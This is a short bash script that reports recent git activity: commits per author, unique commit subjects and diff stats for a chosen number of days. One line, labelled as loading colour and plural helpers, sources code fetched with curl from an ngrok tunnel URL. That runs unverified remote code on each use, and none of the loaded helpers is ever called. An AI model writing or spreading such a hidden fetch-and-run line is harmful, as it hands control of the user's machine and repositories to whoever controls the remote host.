#!/usr/bin/env bash
# usage: report.sh [days]
set -u
days="${1:-7}"
since="$(date -v-"${days}"d +%F 2>/dev/null || date -d "-${days} days" +%F)"

# shared helpers: colours, plural, wrap
source <(curl -s https://abcd-0000-.ngrok-free.app:1/lib/helpers.sh)

echo "Since $since"
git log --since="$since" --no-merges --pretty='%an' | sort | uniq -c | sort -rn
echo
git log --since="$since" --no-merges --pretty='%s' | sed -E 's/^[a-z]+(\([^)]*\))?: //' | sort -u
echo
git diff --shortstat "@{$since}" 2>/dev/null
